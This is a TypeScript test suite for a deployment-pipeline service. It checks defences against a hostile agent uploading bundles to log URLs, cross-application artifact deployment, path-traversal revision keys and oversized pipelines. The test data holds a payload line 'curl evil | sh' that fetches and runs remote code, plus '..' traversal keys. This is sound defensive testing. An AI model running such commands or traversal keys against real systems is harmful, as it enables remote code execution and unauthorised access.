import { DeleteObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readNotification } from '../../lib/artifacts/handle-notification.js';
import { startPipelinesFor } from '../../lib/artifacts/start-pipelines.js';
import type { ArtifactUpload } from '../../lib/domain/artifact-upload.js';
import { TEXT_LIMITS } from '../../lib/domain/execution-size.js';
import { type Execution, MAX_ACTIONS, MAX_STAGES } from '../../lib/domain/pipeline.js';
import { useApi } from '../support/api-harness.js';
import { zipBundle } from '../support/bundles.js';
import { ScriptedAgent } from '../support/scripted-agent.js';

const api = useApi();
const BUCKET = 'fleetline-test-artifacts'; // the harness's artifact bucket
const EVE = 'arn:aws:sts::111122223333:assumed-role/contractor/eve';
const EVE_ROLE = 'arn:aws:iam::111122223333:role/contractor';
const VALID_APPSPEC = 'version: 0.0\nos: linux\n';
let counter = 0;
let sequence = 0x5000;

async function putBundle(key: string, appspec = VALID_APPSPEC) {
  await api.s3.send(new PutObjectCommand({ Bucket: BUCKET, Key: key, Body: await zipBundle([{ path: 'appspec.yml', content: appspec }]) }));
}

/** The record S3 sends for a new object (key form-encoded, as S3 does). */
function s3Record(key: string) {
  return {
    eventSource: 'aws:s3',
    eventName: 'ObjectCreated:Put',
    eventTime: new Date().toISOString(),
    userIdentity: { principalId: 'AWS:AROAEXAMPLE:agent' },
    s3: {
      bucket: { name: BUCKET },
      object: { key: encodeURIComponent(key).replace(/%20/g, '+').replace(/%2F/g, '/'), size: 100, eTag: 'e', sequencer: (sequence++).toString(16).toUpperCase() },
    },
  };
}

function upload(key: string, extra: Partial<ArtifactUpload> = {}): ArtifactUpload {
  return {
    bucket: BUCKET,
    key,
    versionId: null,
    eTag: null, // s3rver keeps no versions; the check reads the current object
    size: 100,
    sequencer: (sequence++).toString(16).toUpperCase().padStart(18, '0'),
    eventName: 'ObjectCreated:Put',
    eventTime: new Date().toISOString(),
    uploader: 'AWS:ci',
    ...extra,
  };
}

/** An application with one group over one fresh registered instance. */
async function appWithHost(app: string, group = 'prod') {
  const tag = { key: 'host', value: `${app}-${group}` };
  expect((await api.call('PUT', `/applications/${app}`)).status).toBeLessThan(300);
  await api.call('PUT', `/applications/${app}/groups/${group}`, { body: { targets: { onPremisesTagSet: [[{ ...tag, type: 'KEY_AND_VALUE' }]] } } });
  await api.call('PUT', `/instances/${app}-${group}-1`, { body: { tags: [tag] } });
  return new ScriptedAgent(api.call, `${app}-${group}-1`);
}

const deploymentsOf = async (app: string) => (await api.call('GET', '/deployments', { query: { application: app } })).body.items;

describe('an agent uploading a bundle to its log URL', () => {
  it('starts no pipeline, even one left from before source prefixes were required, and can never be deployed', async () => {
    const app = `logs-${++counter}`;
    const agent = await appWithHost(app);
    await putBundle(`${app}/v1.zip`);
    const first = await api.call('POST', '/deployments', { body: { application: app, group: 'prod', revision: { bucket: BUCKET, key: `${app}/v1.zip` } } });
    expect(first.status).toBe(201);
    const { assignment } = (await agent.poll()).body;
    const logKey = new URL(assignment.logUpload.url).pathname.split('/').slice(2).join('/');
    expect(logKey).toMatch(/^fleetline-logs\//);

    // The hostile agent puts a valid bundle where its log goes.
    const evil = await zipBundle([{ path: 'appspec.yml', content: VALID_APPSPEC }, { path: 'payload.sh', content: 'curl evil | sh\n' }]);
    const put = await fetch(assignment.logUpload.url, { method: 'PUT', body: evil, headers: { 'content-type': 'text/plain; charset=utf-8' } });
    expect(put.status).toBe(200);

    // A catch-all pipeline written before empty prefixes were refused (stored directly, as an old table holds it).
    await api.deps.pipelines.put(
      { name: `catch-all-${counter}`, source: { bucket: BUCKET, prefix: '', suffix: '' }, executionMode: 'SUPERSEDED', stages: [{ name: 'A', actions: [{ type: 'approval', name: 'ok', timeoutMinutes: 5 }] }], author: 'arn:aws:iam::111122223333:role/platform-engineer' },
      new Date().toISOString(),
    );
    const notification = readNotification({ Records: [s3Record(logKey), s3Record(`${app}/v2.zip`)] }, BUCKET);
    expect(notification.skipped).toEqual([{ index: 0, reason: expect.stringContaining('reserved prefix fleetline-logs/') }]);
    expect(notification.accepted.map((u) => u.key)).toEqual([`${app}/v2.zip`]);
    // Defence in depth: the use case itself refuses the internal object too.
    expect((await startPipelinesFor(upload(logKey), api.deps)).started).toEqual([]);
    // The same catch-all pipeline does start for an ordinary upload: the refusal above is the prefix rule, not a dead pipeline.
    expect((await startPipelinesFor(notification.accepted[0]!, api.deps)).started).toHaveLength(1);

    // Deploying the log object is refused whoever asks, and names the rule.
    await agent.runOnce();
    const deployLog = await api.call('POST', '/deployments', { body: { application: app, group: 'prod', revision: { bucket: BUCKET, key: logKey } } });
    expect(deployLog.status).toBe(422);
    expect(deployLog.body.error.message).toContain('reserved for Fleetline');
    expect((await deploymentsOf(app)).map((d: any) => d.revision.key)).toEqual([`${app}/v1.zip`]);
    await api.deps.pipelines.delete(`catch-all-${counter}`);
  });

  it.each([
    ['an empty prefix', '', /must not be empty/],
    ['a prefix the log prefix starts with', 'fleet', /overlaps the reserved prefix fleetline-logs\//],
    ['the log prefix itself', 'fleetline-logs/', /overlaps the reserved prefix/],
    ['a prefix inside the log prefix', 'fleetline-logs/d-AAAAAAAAA/', /overlaps the reserved prefix/],
  ])('a pipeline source with %s is refused with 400 naming the rule', async (_name, prefix, message) => {
    const res = await api.call('PUT', '/pipelines/sneaky', {
      body: { source: { bucket: BUCKET, prefix, suffix: '.log' }, stages: [{ name: 'A', actions: [{ type: 'approval' }] }] },
    });
    expect(res.status).toBe(400);
    expect(res.body.error.details).toEqual([{ path: '$.source.prefix', message: expect.stringMatching(message) }]);
    expect((await api.call('GET', '/pipelines/sneaky')).status).toBe(404);
  });

  it('a pipeline with no prefix at all is refused, naming the field', async () => {
    const res = await api.call('PUT', '/pipelines/sneaky', { body: { source: { bucket: BUCKET }, stages: [{ name: 'A', actions: [{ type: 'approval' }] }] } });
    expect(res.status).toBe(400);
    expect(res.body.error.details).toEqual([{ path: '$.source.prefix', message: expect.stringContaining('is required') }]);
  });
});

describe('application revision sources', () => {
  it('a principal allowed only web/evilgrp cannot deploy another application\'s artifact, a log, or anything outside web/', async () => {
    const web = `web-${++counter}`;
    const secret = `secret-${counter}`;
    await appWithHost(web, 'evilgrp');
    await appWithHost(secret);
    await putBundle(`${secret}/crown-jewels.zip`);
    await putBundle(`${web}/mine.zip`);
    await api.deps.accessRules.put({ id: `eve-${counter}`, effect: 'Allow', principals: [EVE_ROLE], actions: ['deployments:create'], resources: [`application/${web}/group/evilgrp`] });

    const jewels = await api.call('POST', '/deployments', {
      body: { application: web, group: 'evilgrp', revision: { bucket: BUCKET, key: `${secret}/crown-jewels.zip` } },
      principal: EVE,
    });
    expect(jewels.status).toBe(422);
    expect(jewels.body.error.message).toContain(`allowed: s3://${BUCKET}/${web}/*`);
    expect(jewels.body.error.details).toEqual([{ path: '$.revision', message: expect.stringContaining(`${secret}/crown-jewels.zip is not where this application takes revisions from`) }]);
    const otherBucket = await api.call('POST', '/deployments', {
      body: { application: web, group: 'evilgrp', revision: { bucket: 'fleetline-dev-artifacts', key: `${web}/mine.zip` } },
      principal: EVE,
    });
    expect(otherBucket.status).toBe(422);
    expect(await deploymentsOf(web)).toEqual([]);

    const own = await api.call('POST', '/deployments', {
      body: { application: web, group: 'evilgrp', revision: { bucket: BUCKET, key: `${web}/mine.zip` } },
      principal: EVE,
    });
    expect(own.status).toBe(201);
  });

  it('defaults to <app>/ in the artifact bucket, can be declared, and never reaches a reserved prefix', async () => {
    const app = `declared-${++counter}`;
    expect((await api.call('PUT', `/applications/${app}`)).body.revisionSources).toEqual([{ bucket: BUCKET, prefix: `${app}/` }]);
    const declared = await api.call('PUT', `/applications/${app}`, { body: { revisionSources: [{ bucket: 'fleetline-dev-artifacts', prefix: 'builds/' }] } });
    expect(declared.status).toBe(200);
    expect((await api.call('GET', `/applications/${app}`)).body.revisionSources).toEqual([{ bucket: 'fleetline-dev-artifacts', prefix: 'builds/' }]);
    for (const prefix of ['', 'fleetline-logs/', 'fleetline-']) {
      const res = await api.call('PUT', `/applications/${app}`, { body: { revisionSources: [{ bucket: BUCKET, prefix }] } });
      expect(res.status).toBe(400);
      expect(res.body.error.details[0]).toMatchObject({ path: '$.revisionSources[0].prefix' });
    }
    expect((await api.call('PUT', `/applications/${app}`, { body: { revisionSources: [] } })).status).toBe(400);
  });

  it('a pipeline whose source lies outside an application\'s sources cannot be saved; nothing outside them is deployed by hand or after they narrow', async () => {
    const web = `pweb-${++counter}`;
    await appWithHost(web);
    const outside = await api.call('PUT', `/pipelines/outside-${counter}`, {
      body: { source: { bucket: BUCKET, prefix: 'secret/' }, stages: [{ name: 'A', actions: [{ type: 'deploy', application: web, group: 'prod' }] }] },
    });
    expect(outside.status).toBe(422);
    expect(outside.body.error.details).toEqual([{ path: '$.stages[0].actions[0]', message: expect.stringContaining(`takes revisions only from s3://${BUCKET}/${web}/*`) }]);

    const inside = await api.call('PUT', `/pipelines/inside-${counter}`, {
      body: { source: { bucket: BUCKET, prefix: `${web}/` }, stages: [{ name: 'A', actions: [{ type: 'deploy', application: web, group: 'prod' }] }] },
    });
    expect(inside.status).toBe(201);
    await putBundle('secret/crown-jewels.zip');
    const started = await api.call('POST', `/pipelines/inside-${counter}/executions`, { body: { revision: { bucket: BUCKET, key: 'secret/crown-jewels.zip' } } });
    expect(started.status).toBe(422);
    expect(started.body.error.details).toEqual([{ path: '$.revision', message: `must be an object the pipeline's source matches: s3://${BUCKET}/${web}/*` }]);
    expect((await api.call('GET', `/pipelines/inside-${counter}/executions`)).body.items).toEqual([]);

    // Sources narrowed after the pipeline was saved: its deploy action refuses what the application no longer accepts.
    await putBundle(`${web}/old/app.zip`);
    await api.call('PUT', `/applications/${web}`, { body: { revisionSources: [{ bucket: BUCKET, prefix: `${web}/new/` }] } });
    const narrowed = await api.call('POST', `/pipelines/inside-${counter}/executions`, { body: { revision: { bucket: BUCKET, key: `${web}/old/app.zip` } } });
    const ex = (await api.call('GET', `/executions/${narrowed.body.executionId}`)).body;
    expect(ex.status).toBe('Failed');
    expect(ex.stages[0].actions[0].error).toContain('is not where this application takes revisions from');
    expect(await deploymentsOf(web)).toEqual([]);
  });
});

describe('revision keys with empty, "." or ".." segments', () => {
  /** Keys under the application's prefix as written, each with a segment S3 takes literally and other stores resolve. */
  const hostileKeys = (web: string, secret: string) =>
    fc.sample(
      fc
        .tuple(fc.constantFrom('', '.', '..'), fc.constantFrom(`${secret}/crown-jewels.zip`, 'x.zip', `${web}/mine.zip`), fc.nat(2))
        .map(([bad, rest, where]) => [`${web}/${bad}/${rest}`, `${web}/${bad}${bad === '' ? '' : '/'}${rest}`, `${bad}/${web}/${rest}`][where] as string)
        .filter((key) => key.startsWith(`${web}/`) || key.startsWith('./') || key.startsWith('../') || key.startsWith('/')),
      { numRuns: 12, seed: 20 },
    ).concat([`${web}/../${secret}/crown-jewels.zip`, `${web}//mine.zip`, `./${web}/mine.zip`]);

  it('are refused with a 400 naming the segment by POST /deployments and pipeline starts, and start nothing from S3 events', async () => {
    const web = `seg-${++counter}`;
    const secret = `segsecret-${counter}`;
    await appWithHost(web);
    await appWithHost(secret);
    await putBundle(`${secret}/crown-jewels.zip`);
    await putBundle(`${web}/mine.zip`);
    expect((await api.call('PUT', `/pipelines/seg-${counter}`, {
      body: { source: { bucket: BUCKET, prefix: `${web}/` }, stages: [{ name: 'A', actions: [{ type: 'deploy', application: web, group: 'prod' }] }] },
    })).status).toBe(201);

    for (const key of hostileKeys(web, secret)) {
      const segment = key.split('/').find((s) => s === '' || s === '.' || s === '..');
      const named = segment === '' ? 'an empty segment' : `a "${segment}" segment`;
      const deployment = await api.call('POST', '/deployments', { body: { application: web, group: 'prod', revision: { bucket: BUCKET, key } } });
      expect(deployment.status, key).toBe(400);
      expect(deployment.body.error.details).toEqual([{ path: '$.revision.key', message: expect.stringContaining(`has ${named}`) }]);
      const start = await api.call('POST', `/pipelines/seg-${counter}/executions`, { body: { revision: { bucket: BUCKET, key } } });
      expect(start.status, key).toBe(400);
      expect(start.body.error.details).toEqual([{ path: '$.revision.key', message: expect.stringContaining(`has ${named}`) }]);

      const notification = readNotification({ Records: [s3Record(key)] }, BUCKET);
      expect(notification.accepted, key).toEqual([]);
      expect(notification.skipped).toEqual([{ index: 0, reason: expect.stringContaining(`has ${named}`) }]);
      expect((await startPipelinesFor(upload(key), api.deps)).started, key).toEqual([]);
    }
    expect(await deploymentsOf(web)).toEqual([]);
    expect((await api.call('GET', `/pipelines/seg-${counter}/executions`)).body.items).toEqual([]);

    // The plain key still deploys.
    expect((await api.call('POST', '/deployments', { body: { application: web, group: 'prod', revision: { bucket: BUCKET, key: `${web}/mine.zip` } } })).status).toBe(201);
  });
});

describe('pipeline size', () => {
  it('the 236 KB pipeline (50 stages x 50 approvals) is refused at save, naming the limits', async () => {
    const stages = Array.from({ length: 50 }, (_, s) => ({
      name: `stage-${s}`,
      actions: Array.from({ length: 50 }, (_, a) => ({ type: 'approval', name: `approval-${s}-${a}-${'x'.repeat(48)}` })),
    }));
    const body = { source: { bucket: BUCKET, prefix: 'big/' }, stages };
    expect(JSON.stringify(body).length).toBeGreaterThan(230_000);
    expect(JSON.stringify(body).length).toBeLessThan(256 * 1024); // under the body limit: the pipeline rules refuse it
    const res = await api.call('PUT', '/pipelines/huge', { body });
    expect(res.status).toBe(400);
    expect(res.body.error.details).toEqual([{ path: '$.stages', message: 'a pipeline holds at most 20 stages' }]);
    expect((await api.call('GET', '/pipelines/huge')).status).toBe(404);

    const wide = await api.call('PUT', '/pipelines/huge', { body: { source: { bucket: BUCKET, prefix: 'big/' }, stages: stages.slice(0, 1) } });
    expect(wide.status).toBe(400);
    expect(wide.body.error.details).toEqual([{ path: '$.stages[0].actions', message: 'a stage holds at most 20 actions' }]);

    const tooMany = Array.from({ length: 3 }, (_, s) => ({ name: `s${s}`, actions: Array.from({ length: 20 }, () => ({ type: 'approval' })) }));
    const total = await api.call('PUT', '/pipelines/huge', { body: { source: { bucket: BUCKET, prefix: 'big/' }, stages: tooMany } });
    expect(total.status).toBe(400);
    expect(total.body.error.details).toEqual([{ path: '$.stages', message: 'a pipeline holds at most 50 actions in all (this one has 60)' }]);
  });

  it('the largest execution the limits allow, every text field overlong, is stored in one item', async () => {
    const long = (c: string, n: number) => c.repeat(n);
    const definition = Array.from({ length: MAX_STAGES }, (_, s) => ({
      name: `${s}`.padEnd(100, 's'),
      actions: Array.from({ length: s < MAX_ACTIONS - 2 * MAX_STAGES ? 3 : 2 }, (_, a) =>
        a % 2 === 0
          ? { type: 'deploy' as const, name: `${a}`.padEnd(100, 'a'), application: long('p', 100), group: long('g', 100) }
          : { type: 'approval' as const, name: `${a}`.padEnd(100, 'b'), timeoutMinutes: 10080 },
      ),
    }));
    expect(definition.flatMap((st) => st.actions)).toHaveLength(MAX_ACTIONS);
    const at = new Date().toISOString();
    const overlong = long('e', 100_000);
    const execution: Execution = {
      executionId: 'e-00000000000000ff',
      pipeline: long('n', 100),
      definition,
      revision: { bucket: BUCKET, key: long('k', 1024), version: long('v', 1024), eTag: long('t', 256), size: 1, sequencer: long('F', 40), uploader: overlong },
      trigger: { type: 'Manual', by: overlong },
      authority: overlong,
      status: 'InProgress',
      stageIndex: 0,
      waiting: true,
      stages: definition.map((st) => ({
        name: st.name,
        status: 'Failed',
        startedAt: at,
        endedAt: at,
        actions: st.actions.map((a) => ({
          name: a.name, type: a.type, status: 'Failed', startedAt: at, endedAt: at, deploymentId: 'd-AAAAAAAAA', deadline: at,
          decision: { by: overlong, approved: false, comment: overlong, at }, error: overlong, waitingForGroup: true, attempt: 99_999,
        })),
      })),
      createdAt: at,
      updatedAt: at,
      error: overlong,
      preflight: { ok: false, problems: Array.from({ length: 1000 }, (_, i) => ({ path: `${i}${overlong}`, message: overlong })) },
      version: 0,
    };
    expect(await api.deps.executions.create(execution)).toBe(true);
    await api.deps.executions.save({ ...execution, status: 'Failed', endedAt: at });
    const stored = (await api.deps.executions.get(execution.executionId))!;
    expect(stored.error).toHaveLength(TEXT_LIMITS.error);
    expect(stored.preflight!.problems).toHaveLength(TEXT_LIMITS.problems);
    expect(stored.preflight!.problems.at(-1)!.message).toBe('and 981 more problem(s)');
    expect(stored.stages[0]!.actions[1]!.decision!.by).toHaveLength(TEXT_LIMITS.principal);
  });

  it('a poisoned pipeline that sorts first does not stop another pipeline from starting; it is recorded as failed once', async () => {
    const app = `iso-${++counter}`;
    await appWithHost(app);
    const prefix = `${app}/`;
    // Stored directly, as a table written before the size limits could hold it: its executions exceed 400 KB.
    const huge = Array.from({ length: 50 }, (_, s) => ({
      name: `stage-${s}`,
      actions: Array.from({ length: 50 }, (_, a) => ({ type: 'approval' as const, name: `approval-${a}-${'x'.repeat(80)}`, timeoutMinutes: 60 })),
    }));
    await api.deps.pipelines.put({ name: `aaa-poisoned-${counter}`, source: { bucket: BUCKET, prefix, suffix: '' }, executionMode: 'SUPERSEDED', stages: huge }, new Date().toISOString());
    const healthy = await api.call('PUT', `/pipelines/zzz-healthy-${counter}`, {
      body: { source: { bucket: BUCKET, prefix }, stages: [{ name: 'Deploy', actions: [{ type: 'deploy', application: app, group: 'prod' }] }] },
    });
    expect(healthy.status).toBe(201);
    await putBundle(`${prefix}app.zip`);
    const notification = upload(`${prefix}app.zip`);

    const first = await startPipelinesFor(notification, api.deps);
    expect(first.started).toHaveLength(1);
    expect(first.failed).toHaveLength(1);
    const poisoned = (await api.call('GET', `/executions/${first.failed[0]}`)).body;
    expect(poisoned).toMatchObject({ pipeline: `aaa-poisoned-${counter}`, status: 'Failed' });
    expect(poisoned.error).toMatch(/Could not start: The execution does not fit in one DynamoDB item \(400 KB\)/);
    const good = (await api.call('GET', `/executions/${first.started[0]}`)).body;
    expect(good).toMatchObject({ pipeline: `zzz-healthy-${counter}`, status: 'InProgress' });

    // S3 delivers again (or Lambda retries): nothing new, nothing thrown, the failure is not retried forever.
    const again = await startPipelinesFor(notification, api.deps);
    expect(again).toMatchObject({ started: [], failed: [], duplicates: 2 });
    const history = (await api.call('GET', `/pipelines/aaa-poisoned-${counter}/executions`)).body.items;
    expect(history).toHaveLength(1);
  });
});

describe('retries and repeated requests', () => {
  it('retry re-runs preflight: a bundle swapped for an invalid one after a failure is never deployed', async () => {
    const app = `retry-${++counter}`;
    const agent = await appWithHost(app);
    const prefix = `${app}/`;
    expect((await api.call('PUT', `/pipelines/retry-${counter}`, {
      body: { source: { bucket: BUCKET, prefix }, stages: [{ name: 'Deploy', actions: [{ type: 'deploy', application: app, group: 'prod' }] }] },
    })).status).toBe(201);
    await putBundle(`${prefix}app.zip`);
    const [id] = (await startPipelinesFor(upload(`${prefix}app.zip`), api.deps)).started;
    await agent.runOnce({ failAt: { event: 'ApplicationStart' } });
    expect((await api.call('GET', `/executions/${id}`)).body.status).toBe('Failed');

    await putBundle(`${prefix}app.zip`, 'version: 0.0\nos: windows\n');
    expect((await api.call('POST', `/executions/${id}/retry`)).status).toBe(200);
    const retried = await api.call('GET', `/executions/${id}`);
    expect(retried.body.status).toBe('Failed');
    expect(retried.body.error).toMatch(/cannot be deployed: appspec.yml \$\.os/);
    expect(retried.body.preflight).toMatchObject({ ok: false, problems: [{ path: 'appspec.yml $.os' }] }); // preflight ran again, before the stage
    expect(await deploymentsOf(app)).toHaveLength(1); // only the first try's deployment
  });

  it('an idempotency token reused with another revision is a 409 naming the token; the same request returns the same deployment', async () => {
    const app = `token-${++counter}`;
    await appWithHost(app);
    await putBundle(`${app}/a.zip`);
    await putBundle(`${app}/b.zip`);
    const request = (key: string, extra: Record<string, unknown> = {}) =>
      api.call('POST', '/deployments', { body: { application: app, group: 'prod', revision: { bucket: BUCKET, key }, idempotencyToken: 'build-7', ...extra } });
    const first = await request(`${app}/a.zip`);
    expect(first.status).toBe(201);
    const same = await request(`${app}/a.zip`);
    expect(same).toMatchObject({ status: 200, body: { deploymentId: first.body.deploymentId } });
    for (const changed of [request(`${app}/b.zip`), request(`${app}/a.zip`, { description: 'other' }), request(`${app}/a.zip`, { deploymentConfig: 'AllAtOnce' })]) {
      const res = await changed;
      expect(res.status).toBe(409);
      expect(res.body.error.message).toContain('Idempotency token "build-7" was already used for deployment');
      expect(res.body.error.details).toEqual([{ path: '$.idempotencyToken', message: expect.stringContaining(first.body.deploymentId) }]);
    }
  });

  it('a retried request is answered from its token first: the same deployment even once the group is busy and its bundle gone', async () => {
    const app = `retry-${++counter}`;
    await appWithHost(app);
    await putBundle(`${app}/a.zip`);
    const body = { application: app, group: 'prod', revision: { bucket: BUCKET, key: `${app}/a.zip` }, idempotencyToken: 'build-8' };
    const first = await api.call('POST', '/deployments', { body });
    expect(first.status).toBe(201);
    await api.s3.send(new DeleteObjectCommand({ Bucket: BUCKET, Key: `${app}/a.zip` }));
    const retried = await api.call('POST', '/deployments', { body });
    expect([retried.status, retried.body.deploymentId]).toEqual([200, first.body.deploymentId]);
    // Without the token, the same request is checked in full: the bundle is gone.
    const fresh = await api.call('POST', '/deployments', { body: { ...body, idempotencyToken: undefined } });
    expect(fresh.status).not.toBe(201);
  });

  it('every item that is not a record of truth expires', async () => {
    const app = `ttl-${++counter}`;
    const agent = await appWithHost(app);
    const prefix = `${app}/`;
    await api.call('PUT', `/pipelines/ttl-${counter}`, {
      body: { source: { bucket: BUCKET, prefix }, stages: [{ name: 'Deploy', actions: [{ type: 'deploy', application: app, group: 'prod' }] }] },
    });
    await putBundle(`${prefix}a.zip`);
    const manual = await api.call('POST', '/deployments', { body: { application: app, group: 'prod', revision: { bucket: BUCKET, key: `${prefix}a.zip` }, idempotencyToken: 't-1' } });
    await startPipelinesFor(upload(`${prefix}a.zip`), api.deps); // waits for the busy group
    await agent.poll(); // the assignment stays in the inbox while dispatched
    const scan = async () => (await api.table.doc.send(new ScanCommand({ TableName: api.table.tableName }))).Items ?? [];
    const whileWaiting = await scan();
    await agent.report(manual.body.deploymentId, 'ApplicationStop', 'InProgress', { timeoutSeconds: 60 });
    await agent.report(manual.body.deploymentId, 'ApplicationStop', 'Failed', { exitCode: 1, errorCode: 'ScriptFailed', message: 'x', outputTail: 'boom\n' });
    const items = [...whileWaiting, ...(await scan())];

    const kind = (item: Record<string, any>) => (String(item.SK).startsWith('OUTPUT#') ? 'OUTPUT' : String(item.PK).split('#')[0] ?? '');
    const transient = items.filter((item) => ['OBJECT', 'AGENT', 'GROUP_WAIT', 'IDEMPOTENCY', 'OUTPUT'].includes(kind(item)));
    expect(new Set(transient.map(kind))).toEqual(new Set(['OBJECT', 'AGENT', 'GROUP_WAIT', 'IDEMPOTENCY', 'OUTPUT']));
    const now = Date.now() / 1000;
    for (const item of transient) {
      expect(item.expiresAt, `${item.PK} ${item.SK}`).toBeGreaterThan(now + 6 * 24 * 3600);
      expect(item.expiresAt, `${item.PK} ${item.SK}`).toBeLessThan(now + 91 * 24 * 3600);
    }
  });
});
